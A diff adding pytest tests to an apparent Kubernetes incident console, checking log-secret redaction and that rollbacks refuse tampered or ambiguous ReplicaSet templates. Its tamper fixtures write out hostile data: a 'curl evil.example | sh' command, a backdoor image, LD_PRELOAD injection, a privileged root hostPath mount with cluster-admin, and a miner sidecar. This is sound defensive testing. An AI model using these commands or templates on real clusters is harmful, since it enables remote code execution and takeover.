@@ -11,6 +11,8 @@ shows what really changed.
 
 from __future__ import annotations
 
+import copy
+import dataclasses
 import json
 
 import pytest
@@ -23,7 +25,7 @@ from console.incident.journal import Journal
 from console.incident.session import IncidentSession, Refusal
 from console.sources.base import Backoff
 from console.sources.kubernetes import WorkloadWatch
-from console.sources.kubernetes_detail import LOG_BYTES, LOG_LINES
+from console.sources.kubernetes_detail import DIFF_LINES, LOG_BYTES, LOG_LINES, LOG_SLACK, digest_of
 
 from conftest import RECORDED
 from scripted import Clock
@@ -97,7 +99,10 @@ async def test_a_deployment_shows_its_pods_history_and_what_can_be_done(source, 
     assert detail.opening("d").row == "deployment/worker/describe"
     assert [c.key for c in detail.changes] == ["R", "U", "0", "-", "+", "2"]
     assert [c.params.get("replicas") for c in detail.changes[2:]] == [0, 2, 4, 6]
-    assert dict(detail.change("U").params) == {"deployment": "worker", "namespace": "app", "to_revision": 3}
+    revision3 = item(fake, "replicasets", "worker-7b6f5d8c9")
+    assert dict(detail.change("U").params) == {"deployment": "worker", "namespace": "app", "to_revision": 3,
+                                               "replicaset": "worker-7b6f5d8c9",
+                                               "template_digest": digest_of(revision3)}
     for change in detail.changes:
         assert change.confirm == "worker"
         assert change.preview[:3] == ("deployment/worker in namespace app", "replicas: desired 3, ready 1",
@@ -214,8 +219,9 @@ async def test_previous_logs_of_the_crash_looping_container(source, fake):
     assert detail.opening("l").row == f"pod/{CRASHING}/logs"
     log = fake.requests[-1]
     assert log.path == f"/api/v1/namespaces/app/pods/{CRASHING}/log"
-    assert log.query == {"container": "worker", "previous": "true", "tailLines": str(LOG_LINES),
-                         "limitBytes": str(LOG_BYTES)}
+    # A line and some bytes more than are shown: a secret the cut falls inside is redacted whole first.
+    assert log.query == {"container": "worker", "previous": "true", "tailLines": str(LOG_LINES + 1),
+                         "limitBytes": str(LOG_BYTES + LOG_SLACK)}
 
 
 async def test_current_logs_follow_and_a_container_can_be_named(source, fake):
@@ -276,6 +282,61 @@ async def test_logs_stay_bounded_when_the_server_ignores_the_limits(tmp_path):
     text = detail.sections[0].text
     assert len(text.encode()) <= LOG_BYTES and len(text.splitlines()) <= LOG_LINES
     assert again.title == f"pod/{CRASHING} in app"
+
+
+@pytest.fixture
+def registered():
+    from console import secrets
+
+    secrets.forget()
+    yield secrets
+    secrets.forget()
+
+
+SECRET = "hunter2-Zq8x-log-token-5531"
+
+
+def _straddling(at: int) -> list[str]:
+    """Wide lines with SECRET at byte ``at`` of the log, and again whole on an earlier line."""
+    lines = ["y" * 5000 for _ in range(150)]
+    row, column_ = divmod(at, 5001)  # 5000 bytes and a newline each
+    lines[row] = lines[row][:column_] + SECRET + lines[row][column_ + len(SECRET):]
+    lines[2] = f"token={SECRET} " + lines[2][len(SECRET) + 7:]
+    return lines
+
+
+@pytest.mark.parametrize("inside", [1, 7, len(SECRET) - 1])
+async def test_a_secret_the_log_cut_falls_inside_never_shows_in_part(tmp_path, registered, inside):
+    lines = _straddling(LOG_BYTES - inside)  # ``inside`` characters of it before the 64 KiB cut
+    with KubeFake(_chatty(lines)) as fake:
+        source = watch(fake, tmp_path)
+        leaky = (await source.drill(f"pod/{CRASHING}/logs/previous")).sections[0].text
+        registered.add(SECRET)
+        cut = await source.drill(f"pod/{CRASHING}/logs/previous")
+        await source.close()
+
+    # Nothing registered: the cut leaves the secret's first characters at the very end.
+    assert leaky.endswith(SECRET[:inside]) and SECRET in leaky
+    text = cut.sections[0].text
+    assert "cut at 64 KiB" in cut.sections[0].title and len(text.encode()) <= LOG_BYTES
+    assert SECRET[:4] not in text and "token=*** " in text
+    assert not any(text.endswith(SECRET[:k]) for k in range(1, len(SECRET)))
+
+
+async def test_a_secret_spanning_the_line_cut_is_redacted_whole(tmp_path, registered):
+    """A secret with a line break in it, its first line the one the 200-line cut drops."""
+    secret = "first-half-0192\nsecond-half-8734"
+    registered.add(secret)
+    lines = [f"line {i}" for i in range(300)]
+    lines[99], lines[100] = "key=first-half-0192", "second-half-8734 rest of the line"  # lines 99-100 of 300
+    with KubeFake(_chatty(lines)) as fake:
+        source = watch(fake, tmp_path)
+        text = (await source.drill(f"pod/{CRASHING}/logs/previous")).sections[0].text
+        await source.close()
+
+    # Masked whole, the two lines are one: the cut keeps it, with nothing of the secret in it.
+    assert len(text.splitlines()) == LOG_LINES and text.startswith("key=*** rest of the line\nline 101\n")
+    assert "half" not in text
 
 
 # ---- rows that are gone, and hostile text ---------------------------------------------------
@@ -428,6 +489,164 @@ async def test_undo_refuses_a_deployment_changed_since_it_was_read(source, fake)
     with pytest.raises(ProbeError, match="HTTP 422"):
         await source.undo("deployment", "worker", 3)
     assert item(fake, "deployments", "worker")["spec"]["template"]["spec"]["containers"][0]["image"].endswith("1.9.0")
+
+
+WORKER3 = "worker-7b6f5d8c9"  # revision 3 of deployment/worker, the one U goes back to
+CHANGED = "revision 3's template changed since it was shown; open the deployment again"
+
+
+def _backdoor(rs):
+    rs["spec"]["template"]["spec"]["containers"][0]["image"] = "evil.example/backdoor:latest"
+
+
+def _command(rs):
+    rs["spec"]["template"]["spec"]["containers"][0]["command"] = ["/bin/sh", "-c", "curl evil.example | sh"]
+
+
+def _env_name(rs):
+    rs["spec"]["template"]["spec"]["containers"][0]["env"] = [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]
+
+
+def _remade(rs):  # deleted and made again: same name, same template, another object
+    rs["metadata"]["uid"] = "00000000-0000-4000-8000-00000000beef"
+
+
+def _renamed(rs):  # another ReplicaSet now holds revision 3
+    rs["metadata"]["name"] = "worker-0000evil"
+
+
+@pytest.mark.parametrize("tamper", [_backdoor, _command, _env_name, _remade, _renamed])
+async def test_undo_refuses_a_template_changed_since_it_was_shown(source, fake, tmp_path, tamper):
+    session = incident(tmp_path, source)
+    undo = (await session.drill(ref("deployment/worker"))).change("U")
+    title, shown, expected = session.confirmation(ref("deployment/worker"), undo)
+    assert f"ReplicaSet {WORKER3}, template sha256 {undo.params['template_digest'][:16]}" in " ".join(shown)
+
+    tamper(item(fake, "replicasets", WORKER3))  # between the preview and the typed name
+    result = await session.change(ref("deployment/worker"), undo, expected)
+
+    assert not result.ok and CHANGED in result.error and "nothing was rolled back" in result.error
+    assert writes(fake) == []
+    assert item(fake, "deployments", "worker")["spec"]["template"]["spec"]["containers"][0]["image"].endswith("1.9.0")
+    assert actions(session)[-1]["ok"] is False  # journaled as tried and failed
+
+
+def _stray_revision_3(responses):
+    """A second ReplicaSet claiming revision 3, listed first, with another image."""
+    stray = copy.deepcopy(item(responses, "replicasets", WORKER3))
+    stray["metadata"].update(name="worker-0000evil", uid="evil-uid")
+    _backdoor(stray)
+    responses["replicasets"]["items"].insert(0, stray)
+
+
+async def test_two_replicasets_claiming_a_revision_are_never_rolled_back_to(tmp_path):
+    from console.sources.base import ProbeError
+
+    responses = load_responses(RECORDED)
+    _stray_revision_3(responses)
+    with KubeFake(responses) as fake:
+        source = watch(fake, tmp_path)
+        workload = await source.drill("deployment/worker")
+        revision = await source.drill("deployment/worker/revision/3")
+        older = await source.drill("deployment/worker/revision/2")
+        for asked in (3, None):
+            with pytest.raises(ProbeError, match=r"2 ReplicaSets claim revision 3 \(worker-0000evil and "
+                                                 r"worker-7b6f5d8c9\).*ambiguous"):
+                await source.undo("deployment", "worker", asked)
+        await source.close()
+
+        assert writes(fake) == []
+    # Neither is offered, and the detail says why; revision 2 is still one key away.
+    assert workload.change("U") is None and revision.changes == ()
+    assert "worker-0000evil and worker-7b6f5d8c9" in dict(section(workload, "Workload").rows)["undo"]
+    assert dict(section(revision, "Revision 3").rows)["replicaset"] == "worker-0000evil, worker-7b6f5d8c9"
+    assert "ambiguous" in dict(section(revision, "Revision 3").rows)["undo"]
+    assert older.change("U").params["replicaset"] == "worker-84c9d6f7b5"
+
+
+async def test_a_replicaset_claiming_the_shown_revision_after_the_preview_is_refused(source, fake, tmp_path):
+    session = incident(tmp_path, source)
+    undo = (await session.drill(ref("deployment/worker"))).change("U")
+    title, shown, expected = session.confirmation(ref("deployment/worker"), undo)
+
+    _stray_revision_3(fake.responses)
+    result = await session.change(ref("deployment/worker"), undo, expected)
+
+    assert not result.ok and "worker-0000evil and worker-7b6f5d8c9" in result.error
+    assert writes(fake) == []
+
+
+@pytest.mark.parametrize("param, value, says", [
+    ("template_digest", "not-a-digest", "template_digest must be a sha256 in hex"),
+    ("template_digest", "AB" * 32, "template_digest must be a sha256 in hex"),
+    ("template_digest", ["0" * 64], "template_digest must be a sha256 in hex"),
+    ("replicaset", "worker/../x", "not a Kubernetes replicaset name"),
+    ("replicaset", "worker-7b6f5d8c9\n", "not a Kubernetes replicaset name"),
+])
+async def test_an_undo_naming_no_real_template_is_refused_before_it_is_confirmed(source, fake, tmp_path, param,
+                                                                                 value, says):
+    session = incident(tmp_path, source)
+    undo = (await session.drill(ref("deployment/worker"))).change("U")
+    forged = dataclasses.replace(undo, params={**undo.params, param: value})
+
+    with pytest.raises(Refusal, match=says):
+        session.confirmation(ref("deployment/worker"), forged)
+    with pytest.raises(Refusal, match=says):
+        await session.change(ref("deployment/worker"), forged, "worker")
+    assert writes(fake) == []
+
+
+def _loaded_revision_3(responses):
+    """Revision 3's template with much more than another image in it."""
+    spec = item(responses, "replicasets", WORKER3)["spec"]["template"]["spec"]
+    spec["containers"][0].update(
+        command=["/bin/sh", "-c"], args=["exec worker --unsafe"],
+        env=[{"name": "DB_PASSWORD", "value": "s3cr3t-value"}, {"name": "MODE", "value": "debug"}],
+        volumeMounts=[{"name": "host", "mountPath": "/host"}], securityContext={"privileged": True})
+    spec["containers"].append({"name": "sidecar", "image": "evil.example/miner:1"})
+    spec["volumes"] = [{"name": "host", "hostPath": {"path": "/"}}]
+    spec["serviceAccountName"] = "cluster-admin"
+    running = item(responses, "deployments", "worker")["spec"]["template"]["spec"]["containers"][0]
+    running["env"] = [{"name": "MODE", "value": "prod"}, {"name": "LOG_LEVEL", "value": "info"}]
+    return spec
+
+
+async def test_the_undo_preview_shows_what_else_the_template_changes(tmp_path):
+    responses = load_responses(RECORDED)
+    _loaded_revision_3(responses)
+    with KubeFake(responses) as fake:
+        source = watch(fake, tmp_path)
+        preview = (await source.drill("deployment/worker")).change("U").preview
+        revision = (await source.drill("deployment/worker/revision/3")).change("U").preview
+        await source.close()
+
+    assert preview == revision
+    diff = preview[preview.index("the whole pod template is replaced; besides images, it changes:") + 1:]
+    assert diff == (
+        "worker: command <image default> → [/bin/sh -c]",
+        "worker: args <image default> → ['exec worker --unsafe']",
+        "worker: env added DB_PASSWORD; removed LOG_LEVEL; changed MODE (values not shown)",
+        "worker: volume mounts <none> → host:/host",
+        "worker: also differs: securityContext",
+        "container sidecar added: image evil.example/miner:1, command <image default>, args <image default>, "
+        "env <none>",
+        "volumes: +host (hostPath /)",
+        "pod spec also differs: serviceAccountName")
+    assert not any(value in line for line in preview for value in ("s3cr3t", "debug", "prod", "info"))
+
+
+async def test_the_template_diff_is_bounded(tmp_path):
+    responses = load_responses(RECORDED)
+    spec = _loaded_revision_3(responses)
+    spec["containers"] += [{"name": f"extra-{i}", "image": "x" * 500, "command": ["y" * 500]} for i in range(40)]
+    with KubeFake(responses) as fake:
+        source = watch(fake, tmp_path)
+        preview = (await source.drill("deployment/worker")).change("U").preview
+        await source.close()
+
+    diff = preview[preview.index("the whole pod template is replaced; besides images, it changes:") + 1:]
+    assert len(diff) == DIFF_LINES and diff[-1] == "… and 37 more differences"
+    assert all(len(line) <= 160 for line in diff)
 
 
 async def test_scale_to_one_more(source, fake, tmp_path):
